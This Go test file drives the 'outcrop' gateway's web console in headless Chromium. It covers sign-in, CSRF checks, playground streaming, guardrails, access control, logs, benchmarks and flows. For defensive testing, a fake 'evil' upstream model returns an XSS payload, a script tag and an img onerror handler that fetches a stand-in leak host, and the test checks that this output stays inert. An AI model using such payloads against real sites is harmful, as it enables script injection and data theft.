package app

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"

	"github.com/outcrop/outcrop/internal/auth"
	"github.com/outcrop/outcrop/internal/config"
	"github.com/outcrop/outcrop/internal/console"
	"github.com/outcrop/outcrop/internal/store"
	"github.com/outcrop/outcrop/internal/testenv"
)

// The console's browser tests: a real `outcrop serve` (App.Serve on
// 127.0.0.1:0) with the built-in engine on SmolLM2, driven through the
// embedded console in the apt Chromium (chromedp). Screenshots are written
// to each test's artifact directory (go test -artifacts -outputdir DIR keeps
// them); every request the browser makes is recorded and checked to stay on
// the server's origin.

// injection is what the "evil" upstream answers: HTML that would run script
// if the console rendered model output as HTML.
const injection = "Here you go: <script>window.__pwned='script'</script> " +
	`<img src="x" onerror="window.__pwned='onerror';fetch('http://198.51.100.7/leak')"> and **bold** text.`

// injectingUpstream is an OpenAI-compatible server (a process boundary: a
// hosted model) whose answers carry the injection, streamed in small pieces
// so that tags are split across chunks.
func injectingUpstream(t *testing.T) *httptest.Server {
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var req struct {
			Stream bool `json:"stream"`
		}
		json.NewDecoder(r.Body).Decode(&req)
		if !req.Stream {
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprintf(w, `{"id":"c1","object":"chat.completion","created":1,"model":"evil","choices":[{"index":0,"message":{"role":"assistant","content":%q},"finish_reason":"stop"}],"usage":{"prompt_tokens":5,"completion_tokens":20,"total_tokens":25}}`, injection)
			return
		}
		w.Header().Set("Content-Type", "text/event-stream")
		for i := 0; i < len(injection); i += 7 {
			piece := injection[i:min(i+7, len(injection))]
			b, _ := json.Marshal(piece)
			fmt.Fprintf(w, "data: {\"id\":\"c1\",\"object\":\"chat.completion.chunk\",\"created\":1,\"model\":\"evil\",\"choices\":[{\"index\":0,\"delta\":{\"content\":%s},\"finish_reason\":null}]}\n\n", b)
			w.(http.Flusher).Flush()
		}
		fmt.Fprint(w, "data: {\"id\":\"c1\",\"object\":\"chat.completion.chunk\",\"created\":1,\"model\":\"evil\",\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}],\"usage\":{\"prompt_tokens\":5,\"completion_tokens\":20,\"total_tokens\":25}}\n\ndata: [DONE]\n\n")
	}))
	t.Cleanup(s.Close)
	return s
}

// consoleServer starts the app with principals created first (so that it
// does not run open) and returns its base URL and the principals' API keys.
func consoleServer(t *testing.T, cfgYAML string, principals map[string]string) (string, map[string]string) {
	t.Helper()
	ctx := context.Background()
	cfg, err := config.Parse([]byte(cfgYAML))
	if err != nil {
		t.Fatal(err)
	}
	cfg.Home = t.TempDir()
	so, err := store.OptionsFrom(cfg, nil)
	if err != nil {
		t.Fatal(err)
	}
	db, err := store.Open(ctx, so)
	if err != nil {
		t.Fatal(err)
	}
	st, _, err := auth.OpenStore(cfg, db)
	if err != nil {
		t.Fatal(err)
	}
	keys := map[string]string{}
	for name, policy := range principals {
		if err := st.AddPrincipal(ctx, name); err != nil {
			t.Fatal(err)
		}
		if err := st.AttachPolicy(ctx, name, "console-test", []byte(policy)); err != nil {
			t.Fatal(err)
		}
		if _, keys[name], err = st.CreateAPIKey(ctx, name, 0); err != nil {
			t.Fatal(err)
		}
	}
	db.Close()
	a, err := New(ctx, cfg, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	sctx, cancel := context.WithCancel(ctx)
	done := make(chan error, 1)
	go func() { done <- a.Serve(sctx, ln) }()
	t.Cleanup(func() { cancel(); <-done; a.Close() })
	return "http://" + ln.Addr().String(), keys
}

// browser is one Chromium tab with its network log.
type browser struct {
	t    *testing.T
	base string
	ctx  context.Context
	// mu guards urls, appended by the event listener.
	mu   sync.Mutex
	urls []string
}

// newBrowser starts the apt Chromium headless with a fresh profile and
// nothing that calls home, at 1280×800.
func newBrowser(t *testing.T, chromium, base string) *browser {
	t.Helper()
	opts := append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath(chromium),
		chromedp.NoSandbox,
		chromedp.DisableGPU,
		chromedp.UserDataDir(t.TempDir()),
		chromedp.WindowSize(1280, 800),
		chromedp.Flag("disable-quic", true),
		chromedp.Flag("disable-background-networking", true),
		chromedp.Flag("disable-component-update", true),
		chromedp.Flag("disable-sync", true),
		chromedp.Flag("no-first-run", true),
	)
	actx, cancelA := chromedp.NewExecAllocator(context.Background(), opts...)
	ctx, cancelC := chromedp.NewContext(actx)
	t.Cleanup(func() { cancelC(); cancelA() })
	b := &browser{t: t, base: base, ctx: ctx}
	if err := chromedp.Listen(ctx, func(ev any) {
		if e, ok := ev.(*network.EventRequestWillBeSent); ok {
			b.mu.Lock()
			b.urls = append(b.urls, e.Request.URL)
			b.mu.Unlock()
		}
	}); err != nil {
		t.Fatalf("start %s: %v", chromium, err)
	}
	if _, err := chromedp.Call(ctx, network.Enable, network.EnableParams{}); err != nil {
		t.Fatalf("network log: %v", err)
	}
	return b
}

// run runs actions with a deadline, failing the test on error.
func (b *browser) run(actions ...chromedp.Action[chromedp.Void]) {
	b.t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, 3*time.Minute)
	defer cancel()
	if err := chromedp.Do(ctx, actions...); err != nil {
		b.shot(b.t, "failure")
		b.t.Fatalf("browser: %v", err)
	}
}

// eval evaluates a JS expression in the page (through the DevTools
// protocol, which the page's CSP does not govern), awaiting a promise.
func eval[T any](b *browser, expr string) T {
	b.t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, time.Minute)
	defer cancel()
	v, err := chromedp.Run(ctx, chromedp.Evaluate[T](expr, chromedp.EvalAwaitPromise))
	if err != nil {
		b.shot(b.t, "failure")
		b.t.Fatalf("evaluate %.80q: %v", expr, err)
	}
	return v
}

// eval0 evaluates a JS statement for its effect.
func (b *browser) eval0(expr string) {
	b.t.Helper()
	eval[any](b, "(() => { "+expr+"; return null; })()")
}

// waitJS polls a JS condition until it is true.
func (b *browser) waitJS(what, cond string, timeout time.Duration) {
	b.t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, timeout+10*time.Second)
	defer cancel()
	if _, err := chromedp.Run(ctx, chromedp.Poll[bool](cond, chromedp.WithPollingInterval(100*time.Millisecond), chromedp.WithPollingTimeout(timeout))); err != nil {
		b.shot(b.t, "failure")
		body, _ := chromedp.Run(b.ctx, chromedp.Evaluate[string](`document.body ? document.body.innerText.slice(0, 2000) : ""`))
		b.t.Fatalf("waiting for %s: %v\npage text: %s", what, err, body)
	}
}

// shot writes a full-page PNG screenshot into t's artifact directory.
func (b *browser) shot(t *testing.T, name string) string {
	png, err := chromedp.Run(b.ctx, chromedp.FullScreenshot(100))
	if err != nil {
		t.Logf("screenshot %s: %v", name, err)
		return ""
	}
	path := filepath.Join(t.ArtifactDir(), name+".png")
	if err := os.WriteFile(path, png, 0o644); err != nil {
		t.Logf("screenshot %s: %v", name, err)
		return ""
	}
	if dir := os.Getenv("OUTCROP_CONSOLE_SCREENSHOTS"); dir != "" { // docs/CONSOLE.md: refreshing docs/console/
		os.WriteFile(filepath.Join(dir, name+".png"), png, 0o644)
	}
	t.Logf("screenshot: %s", path)
	return path
}

// setField sets the control inside the label whose own text is label, as
// a user would (React sees an input/change event).
func (b *browser) setField(label, value string) {
	b.t.Helper()
	ok := eval[bool](b, fmt.Sprintf(`(() => {
  const lab = [...document.querySelectorAll('label')].find(l => [...l.childNodes].some(n => n.nodeType === 3 && n.textContent.trim() === %q));
  if (!lab) return false;
  const el = lab.querySelector('select, textarea, input');
  if (!el) return false;
  const proto = el instanceof HTMLSelectElement ? HTMLSelectElement.prototype : el instanceof HTMLTextAreaElement ? HTMLTextAreaElement.prototype : HTMLInputElement.prototype;
  Object.getOwnPropertyDescriptor(proto, 'value').set.call(el, %q);
  el.dispatchEvent(new Event(el instanceof HTMLSelectElement ? 'change' : 'input', {bubbles: true}));
  return true;
})()`, label, value))
	if !ok {
		b.shot(b.t, "failure")
		b.t.Fatalf("no control labelled %q", label)
	}
}

// field is the XPath of the control in the label whose own text is label.
func field(label string) string {
	return fmt.Sprintf(`//label[text()[normalize-space(.)=%q]]//*[self::input or self::textarea or self::select]`, label)
}

// button is the XPath of the button named name.
func button(name string) string {
	return fmt.Sprintf(`//button[normalize-space(.)=%q]`, name)
}

// offOrigin returns the requests that left the server's origin.
func (b *browser) offOrigin() []string {
	b.mu.Lock()
	defer b.mu.Unlock()
	var out []string
	for _, u := range b.urls {
		if !strings.HasPrefix(u, b.base+"/") && !strings.HasPrefix(u, "data:") && !strings.HasPrefix(u, "blob:") {
			out = append(out, u)
		}
	}
	return out
}

// signIn signs in with an API key on the sign-in page and waits for the
// main navigation.
func (b *browser) signIn(apiKey string) {
	b.t.Helper()
	b.run(chromedp.Navigate(b.base+"/console/signin"),
		chromedp.WaitVisible(chromedp.Search(field("API key"))),
		chromedp.SendKeys(chromedp.Search(field("API key")), apiKey),
		chromedp.Click(chromedp.Search(button("Sign in"))),
		chromedp.WaitVisible(chromedp.CSS(`nav[aria-label="Main"]`)))
}

// answered is a JS condition: pane n (0-based) of the playground has a
// finished answer whose metrics show a TTFT.
func answered(n int) string {
	return fmt.Sprintf(`(() => {
  const m = [...document.querySelectorAll('[data-testid="answer-metrics"]')];
  return m.length > %d && /TTFT\s*\d/.test(m[%d].textContent) && !document.querySelector('[aria-label="Streaming"]');
})()`, n, n)
}

const consolePolicyAdmin = `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":["bedrock:*","outcrop:*"],"Resource":"*"}]}`

// consolePolicyViewer may list models but not call them or administer.
const consolePolicyViewer = `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":["bedrock:ListFoundationModels","bedrock:GetFoundationModel","bedrock:ListGuardrails"],"Resource":"*"}]}`

func TestConsoleInBrowser(t *testing.T) {
	chromium := testenv.Chromium(t)
	gguf := testenv.GGUF(t)
	if !console.Built() {
		if os.Getenv("OUTCROP_TEST_REQUIRE") == "1" {
			t.Fatal("the binary embeds no console build: run make console before go test (make test-all does)")
		}
		t.Skip("console not built (make console); skipping")
	}
	evil := injectingUpstream(t)
	base, keys := consoleServer(t, fmt.Sprintf(`
listen: 127.0.0.1:0
models:
  - id: smollm
    profiles: [standard, optimized]
    deployments:
      - provider: local
        model: %s
        profiles: [standard, optimized]
        options: {default_max_tokens: 24}
  - id: evil
    profiles: [standard, optimized]
    deployments:
      - provider: openai
        base_url: %s/v1
        model: evil
        profiles: [standard, optimized]
`, gguf, evil.URL), map[string]string{"admin": consolePolicyAdmin, "viewer": consolePolicyViewer})

	b := newBrowser(t, chromium, base)

	t.Run("no session redirects to sign-in", func(t *testing.T) {
		b.run(chromedp.Navigate(base+"/console/playground"),
			chromedp.WaitVisible(chromedp.Search(button("Sign in"))))
		loc := eval[string](b, `location.href`)
		if !strings.HasPrefix(loc, base+"/console/signin") {
			t.Errorf("without a session /console/playground went to %s", loc)
		}
		b.shot(t, "signin")
	})

	t.Run("sign in with an API key", func(t *testing.T) {
		b.signIn(keys["admin"])
		links := eval[[]string](b, `[...document.querySelectorAll('nav[aria-label="Main"] a')].map(a => a.textContent.trim())`)
		for _, want := range []string{"Playground", "Models", "Logs", "Dashboards", "Benchmarks", "Guardrails", "Access", "Flows", "Agents", "Prompts", "Knowledge bases", "Evaluations"} {
			if !containsString(links, want) {
				t.Errorf("main navigation has no %q link: %v", want, links)
			}
		}
		httpOnly := eval[bool](b, `!document.cookie.includes('outcrop_session')`)
		if !httpOnly {
			t.Error("the session cookie is readable from script")
		}
	})

	t.Run("CSRF token required", func(t *testing.T) {
		status := eval[[]int](b, `Promise.all([
  fetch('/admin/v1/principals', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{"name":"mallory"}'}).then(r => r.status),
  fetch('/model/smollm/converse', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{"messages":[{"role":"user","content":[{"text":"hi"}]}]}'}).then(r => r.status),
  fetch('/admin/v1/principals').then(r => r.status),
])`)
		if len(status) != 3 || status[0] != 403 || status[1] != 403 || status[2] != 200 {
			t.Errorf("statuses without the CSRF header (POST admin, POST converse, GET admin): %v, want [403 403 200]", status)
		}
	})

	t.Run("playground streams an answer with TTFT", func(t *testing.T) {
		b.run(chromedp.Navigate(base+"/console/playground"), chromedp.WaitVisible(chromedp.Search(field("Message"))))
		b.waitJS("the model list", `[...document.querySelectorAll('option')].some(o => o.value === 'smollm')`, 30*time.Second)
		b.setField("Model", "smollm")
		b.setField("Max tokens", "24")
		b.run(chromedp.SendKeys(chromedp.Search(field("Message")), "Say hello in three words."),
			chromedp.Click(chromedp.Search(button("Send"))))
		b.waitJS("a streamed answer with its TTFT", answered(0), 2*time.Minute)
		metrics := eval[string](b, `document.querySelector('[data-testid="answer-metrics"]').textContent`)
		answer := eval[string](b, `(() => { const a = [...document.querySelectorAll('article[aria-label="Answer"]')]; return a.length ? a[a.length-1].innerText : ''; })()`)
		t.Logf("answer %q; metrics %q", answer, metrics)
		if !strings.Contains(metrics, "TTFT") || strings.TrimSpace(strings.ReplaceAll(answer, metrics, "")) == "" {
			t.Errorf("answer %q with metrics %q", answer, metrics)
		}
		b.shot(t, "playground")
	})

	t.Run("compare standard and optimized", func(t *testing.T) {
		b.run(chromedp.Click(chromedp.Search(`//label[normalize-space(.)="Compare"]/input`)))
		b.waitJS("the second pane", `!!document.querySelector('[aria-label="Conversation 2"]')`, 10*time.Second)
		b.setField("Model", "smollm")
		b.setField("Model 2", "smollm")
		b.setField("Latency profile", "standard")
		b.setField("Latency profile 2", "optimized")
		b.run(chromedp.SendKeys(chromedp.Search(field("Message")), "Name a colour."),
			chromedp.Click(chromedp.Search(button("Send"))))
		b.waitJS("both answers", `(() => {
  const panes = ['Conversation 1', 'Conversation 2'].map(l => document.querySelector('[aria-label="' + l + '"]'));
  return panes.every(p => p && p.querySelector('[data-testid="answer-metrics"]') && /TTFT\s*\d/.test(p.querySelector('[data-testid="answer-metrics"]').textContent)) && !document.querySelector('[aria-label="Streaming"]');
})()`, 3*time.Minute)
		profiles := eval[[]string](b, `['Conversation 1', 'Conversation 2'].map(l => document.querySelector('[aria-label="' + l + '"] [data-testid="answer-metrics"]').textContent)`)
		t.Logf("compare metrics: %q", profiles)
		if len(profiles) != 2 || !strings.Contains(profiles[0], "standard") || !strings.Contains(profiles[1], "optimized") {
			t.Errorf("compare panes' metrics %q: want standard then optimized", profiles)
		}
		b.shot(t, "compare")
		b.run(chromedp.Click(chromedp.Search(`//label[normalize-space(.)="Compare"]/input`)))
	})

	t.Run("model output never executes", func(t *testing.T) {
		b.run(chromedp.Navigate(base+"/console/playground"), chromedp.WaitVisible(chromedp.Search(field("Message"))))
		b.waitJS("the model list", `[...document.querySelectorAll('option')].some(o => o.value === 'evil')`, 30*time.Second)
		b.setField("Model", "evil")
		b.run(chromedp.SendKeys(chromedp.Search(field("Message")), "Show me some HTML."),
			chromedp.Click(chromedp.Search(button("Send"))))
		b.waitJS("the injected answer", answered(0), time.Minute)
		type result struct {
			Pwned   any    `json:"pwned"`
			Images  int    `json:"images"`
			Scripts int    `json:"scripts"`
			Text    string `json:"text"`
			Bold    int    `json:"bold"`
		}
		res := eval[result](b, `(() => { const a = [...document.querySelectorAll('article[aria-label="Answer"]')].pop();
  return {pwned: window.__pwned ?? null, images: a.querySelectorAll('img').length, scripts: a.querySelectorAll('script').length,
          text: a.innerText, bold: a.querySelectorAll('strong, b').length}; })()`)
		if res.Pwned != nil || res.Images != 0 || res.Scripts != 0 {
			t.Errorf("model HTML became live: pwned=%v images=%d scripts=%d", res.Pwned, res.Images, res.Scripts)
		}
		if !strings.Contains(res.Text, "<script>") || !strings.Contains(res.Text, "onerror") {
			t.Errorf("the answer's HTML should show as text: %q", res.Text)
		}
		if res.Bold == 0 {
			t.Errorf("Markdown **bold** not rendered: %q", res.Text)
		}
		b.shot(t, "injection")
	})

	t.Run("create a guardrail; the test box blocks a card number", func(t *testing.T) {
		b.run(chromedp.Navigate(base+"/console/guardrails/new"), chromedp.WaitVisible(chromedp.Search(field("Name"))))
		b.setField("Name", "no-cards")
		b.setField("Blocked input message", "Sorry, the input was blocked.")
		b.setField("Blocked output message", "Sorry, the answer was blocked.")
		b.setField("CREDIT_DEBIT_CARD_NUMBER", "BLOCK")
		b.run(chromedp.Click(chromedp.Search(button("Create guardrail"))),
			chromedp.WaitVisible(chromedp.Search(field("Text to test"))))
		b.setField("Text to test", "Please charge my card 4111 1111 1111 1111 today.")
		b.run(chromedp.Click(chromedp.Search(button("Test"))))
		b.waitJS("the guardrail's verdict", `(() => { const r = document.querySelector('[data-testid="guardrail-result"]');
  return !!r && r.textContent.includes('GUARDRAIL_INTERVENED') && r.textContent.includes('CREDIT_DEBIT_CARD_NUMBER'); })()`, time.Minute)
		b.shot(t, "guardrails")
		// A text without a card number passes.
		b.setField("Text to test", "Please charge my usual account today.")
		b.run(chromedp.Click(chromedp.Search(button("Test"))))
		b.waitJS("the guardrail letting clean text pass", `(() => { const r = document.querySelector('[data-testid="guardrail-result"]');
  return !!r && r.textContent.includes('NONE') && !r.textContent.includes('CREDIT_DEBIT_CARD_NUMBER'); })()`, time.Minute)
	})

	t.Run("create a principal and an API key", func(t *testing.T) {
		b.run(chromedp.Navigate(base+"/console/access"), chromedp.WaitVisible(chromedp.Search(field("New principal name"))))
		b.run(chromedp.SendKeys(chromedp.Search(field("New principal name")), "carol"),
			chromedp.Click(chromedp.Search(button("Create principal"))),
			chromedp.Click(chromedp.Search(`//ul[@aria-label="Principals"]//a[normalize-space(.)="carol"]`)),
			chromedp.Click(chromedp.Search(button("Create API key"))),
			chromedp.WaitVisible(chromedp.CSS(`[role="alert"][aria-label="New API key"]`)))
		key := strings.TrimSpace(eval[string](b, `document.querySelector('[role="alert"][aria-label="New API key"] pre[aria-label="API key"]').textContent`))
		if !regexp.MustCompile(`^oc_OCAK[A-Z0-9]{16}_[A-Za-z0-9_-]{43}$`).MatchString(key) {
			t.Fatalf("the API key shown is not one: %q", key)
		}
		b.shot(t, "access")
		// The key authenticates as carol, who has no policy yet: denied, not unauthenticated.
		req, _ := http.NewRequest("GET", base+"/admin/v1/principals", nil)
		req.Header.Set("Authorization", "Bearer "+key)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		msg, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 403 || !strings.Contains(string(msg), "user/carol is not authorized") {
			t.Errorf("the new key: %d %s", resp.StatusCode, msg)
		}
		b.run(chromedp.Click(chromedp.Search(button("I have saved it"))))
	})

	t.Run("open a log entry", func(t *testing.T) {
		b.run(chromedp.Navigate(base + "/console/logs"))
		b.waitJS("the request log", `[...document.querySelectorAll('tr[aria-label^="Open request"]')].some(r => r.textContent.includes('smollm'))`, 30*time.Second)
		b.eval0(`[...document.querySelectorAll('tr[aria-label^="Open request"]')].find(r => r.textContent.includes('smollm')).click()`)
		b.waitJS("the entry's detail", `[...document.querySelectorAll('h3')].some(h => h.textContent.includes('Routing and timings')) &&
  [...document.querySelectorAll('h3')].some(h => h.textContent.includes('Prompt (masked excerpt)'))`, 30*time.Second)
		detail := eval[string](b, `document.body.innerText`)
		for _, want := range []string{"TTFT", "Deployment", "local"} {
			if !strings.Contains(detail, want) {
				t.Errorf("log entry detail has no %q", want)
			}
		}
		b.shot(t, "log-entry")
	})

	t.Run("benchmark from the console", func(t *testing.T) {
		b.run(chromedp.Navigate(base+"/console/benchmarks"), chromedp.WaitVisible(chromedp.Search(field("Endpoint"))))
		b.setField("Endpoint", base)
		b.setField("Endpoint API key (not stored)", keys["admin"])
		b.setField("Models (comma-separated)", "evil")
		b.setField("Requests per target", "5")
		b.setField("Input tokens", "64")
		b.setField("Output tokens", "16")
		b.run(chromedp.Click(chromedp.Search(button("Start run"))))
		b.waitJS("the finished run with its tables", `[...document.querySelectorAll('h3')].some(h => h.textContent.includes('By target')) &&
  /10 done, 0 failed of 10 planned/.test(document.body.innerText) && [...document.querySelectorAll('.badge')].some(e => e.textContent.trim() === 'done')`, 2*time.Minute)
		text := eval[string](b, `document.body.innerText`)
		for _, want := range []string{"standard", "optimized", "TTFT"} {
			if !strings.Contains(text, want) {
				t.Errorf("the run's page has no %q", want)
			}
		}
		b.shot(t, "benchmark")
	})

	t.Run("a two-node flow on the canvas runs", func(t *testing.T) {
		// A new flow starts as Input connected to Output on the canvas; it is
		// saved, prepared and run from the test pane.
		b.run(chromedp.Navigate(base+"/console/flows"), chromedp.WaitVisible(chromedp.Search(field("New flow name"))),
			chromedp.SendKeys(chromedp.Search(field("New flow name")), "echo-flow"),
			chromedp.Click(chromedp.Search(button("Create flow"))))
		b.waitJS("the canvas with two nodes and their connection", `document.querySelectorAll('.react-flow__node').length === 2 &&
  document.querySelectorAll('.react-flow__edge').length === 1`, 30*time.Second)
		b.run(chromedp.Click(chromedp.Search(button("Save and prepare"))))
		b.waitJS("the prepared flow", `/Prepared/.test(document.body.innerText)`, 30*time.Second)
		b.waitJS("the test pane", `!![...document.querySelectorAll('label')].find(l => l.textContent.includes('Flow input (text or JSON)'))`, 10*time.Second)
		b.setField("Flow input (text or JSON)", "hello from the flow test")
		b.run(chromedp.Click(chromedp.Search(button("Run flow"))))
		b.waitJS("the flow's output", `(() => { const r = document.querySelector('[data-testid="flow-result"]');
  return !!r && r.textContent.includes('hello from the flow test'); })()`, time.Minute)
		b.shot(t, "flow")
	})

	t.Run("screens", func(t *testing.T) {
		for _, name := range []string{"Models", "Logs", "Dashboards", "Benchmarks", "Guardrails", "Access", "Flows", "Agents", "Prompts", "Knowledge bases", "Evaluations"} {
			b.run(chromedp.Click(chromedp.Search(fmt.Sprintf(`//nav[@aria-label="Main"]//a[normalize-space(.)=%q]`, name))))
			b.waitJS(name+" heading", fmt.Sprintf(`[...document.querySelectorAll('h1')].some(h => h.textContent.trim().startsWith(%q))`, name), 20*time.Second)
			time.Sleep(300 * time.Millisecond) // let the screen's first fetches settle before the picture
			b.shot(t, strings.ToLower(strings.ReplaceAll(name, " ", "-")))
		}
	})

	t.Run("a principal without permission sees the denial", func(t *testing.T) {
		v := newBrowser(t, chromium, base)
		v.signIn(keys["viewer"])
		v.run(chromedp.Navigate(base+"/console/playground"), chromedp.WaitVisible(chromedp.Search(field("Message"))))
		v.waitJS("the model list", `[...document.querySelectorAll('option')].some(o => o.value === 'smollm')`, 30*time.Second)
		v.setField("Model", "smollm")
		v.run(chromedp.SendKeys(chromedp.Search(field("Message")), "hello"),
			chromedp.Click(chromedp.Search(button("Send"))))
		v.waitJS("the denial", `document.body.innerText.includes('is not authorized to perform: bedrock:InvokeModel')`, time.Minute)
		status := eval[int](v, `fetch('/admin/v1/principals').then(r => r.status)`)
		body := eval[string](v, `fetch('/admin/v1/principals').then(r => r.text())`)
		if status != 403 || strings.Contains(body, `"admin"`) || !strings.Contains(body, "outcrop:ListPrincipals") {
			t.Errorf("viewer listing principals: %d %s", status, body)
		}
		v.shot(t, "denied")
		if off := v.offOrigin(); len(off) > 0 {
			t.Errorf("the viewer's browser made requests off the server's origin: %v", off)
		}
	})

	t.Run("sign out", func(t *testing.T) {
		b.run(chromedp.Navigate(base+"/console/playground"), chromedp.WaitVisible(chromedp.Search(button("Sign out"))),
			chromedp.Click(chromedp.Search(button("Sign out"))),
			chromedp.WaitVisible(chromedp.Search(button("Sign in"))))
		status := eval[int](b, `fetch('/console/api/session').then(r => r.status)`)
		if status != 401 {
			t.Errorf("session after sign-out: %d", status)
		}
	})

	if off := b.offOrigin(); len(off) > 0 {
		t.Errorf("the browser made requests off the server's origin: %v", off)
	}
	b.mu.Lock()
	t.Logf("network log: %d requests, all to %s", len(b.urls), base)
	b.mu.Unlock()
}

func containsString(s []string, v string) bool {
	for _, x := range s {
		if x == v {
			return true
		}
	}
	return false
}

// TestConsoleOpenMode: a server on loopback with no principal runs open;
// the console needs no sign-in, says so in a banner, and works.
func TestConsoleOpenMode(t *testing.T) {
	chromium := testenv.Chromium(t)
	if !console.Built() {
		if os.Getenv("OUTCROP_TEST_REQUIRE") == "1" {
			t.Fatal("the binary embeds no console build: run make console before go test (make test-all does)")
		}
		t.Skip("console not built (make console); skipping")
	}
	evil := injectingUpstream(t)
	base, _ := consoleServer(t, fmt.Sprintf(`
listen: 127.0.0.1:0
models:
  - id: evil
    deployments:
      - provider: openai
        base_url: %s/v1
        model: evil
`, evil.URL), nil)
	b := newBrowser(t, chromium, base)
	b.run(chromedp.Navigate(base+"/console/playground"), chromedp.WaitVisible(chromedp.CSS(`nav[aria-label="Main"]`)))
	loc := eval[string](b, `location.pathname`)
	if loc != "/console/playground" {
		t.Errorf("open mode redirected to %s", loc)
	}
	b.waitJS("the open-mode banner", `[...document.querySelectorAll('[role="status"], [role="alert"]')].some(e => /open mode/i.test(e.textContent))`, 10*time.Second)
	b.waitJS("the model list", `[...document.querySelectorAll('option')].some(o => o.value === 'evil')`, 30*time.Second)
	b.run(chromedp.SendKeys(chromedp.Search(field("Message")), "hello"), chromedp.Click(chromedp.Search(button("Send"))))
	b.waitJS("an answer", answered(0), time.Minute)
	b.shot(t, "open-mode")
	if off := b.offOrigin(); len(off) > 0 {
		t.Errorf("requests off the server's origin: %v", off)
	}
}
